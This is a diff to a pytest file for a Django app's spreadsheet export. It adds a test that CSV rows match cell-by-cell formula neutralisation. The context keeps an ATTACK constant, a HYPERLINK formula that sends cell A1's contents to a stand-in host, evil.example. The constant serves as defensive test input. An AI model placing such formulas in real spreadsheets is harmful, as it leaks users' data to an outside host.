@@ -5,6 +5,8 @@ are read back with openpyxl and csv, as a spreadsheet would read them."""
 
 import csv
 import io
+from datetime import date, datetime
+from decimal import Decimal
 
 import pytest
 from django.db import connection
@@ -13,6 +15,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from plans import spreadsheets
+from plans.dates import SEOUL
 from plans.spreadsheets import Column, Table
 
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -93,6 +96,33 @@ def test_ordinary_text_and_numbers_are_left_alone():
     assert sheet["B2"].data_type == "n" and not sheet["A2"].quotePrefix
     text = b"".join(spreadsheets.csv_chunks(table)).decode("utf-8-sig")
     assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["보통 제목", "-5"], ["a=b", "3"]]
+
+
+def test_a_csv_row_written_whole_is_the_row_written_cell_by_cell():
+    """The CSV writes most rows as they come and rewrites only those that might hold a
+    formula or a time: whatever the values, the file is the one that neutralising every
+    cell gives."""
+    moment = datetime(2026, 3, 1, 9, 5, 59)
+    rows = [
+        ["보통 제목", 3, date(2026, 1, 2), None, moment],
+        ["-3", -3, "a,-b", 'say "=1"', moment],
+        ["x", 1, "회의 10:30:00", "a\r\nb", moment],
+        ["\t1", 2.5, "@", "", None],
+        ["=1", Decimal("1.50"), "+", "q", moment.replace(tzinfo=SEOUL)],
+        ["x", moment, '"-"', "\r=1", moment],  # a time where none was announced
+        ["", 0, "a=b", "메모, 끝", moment],
+    ]
+    columns = [Column(name, 5) for name in "abcd"] + [Column("e", 5, time=True)]
+    written = b"".join(spreadsheets.csv_chunks(Table("t", columns, rows))).decode("utf-8-sig")
+    expected = io.StringIO()
+    writer = csv.writer(expected)
+    writer.writerow("abcde")
+    writer.writerows([[spreadsheets.csv_value(value) for value in row] for row in rows])
+    assert written == expected.getvalue()
+    lines = written.splitlines()
+    assert lines[1] == "보통 제목,3,2026-01-02,,2026-03-01 09:05"
+    # Only text that begins like a formula is neutralised; the number stays a number.
+    assert lines[2] == "'-3,-3," + '"a,-b","say ""=1""",2026-03-01 09:05'
 
 
 def test_control_characters_excel_cannot_store_do_not_fail_the_xlsx():
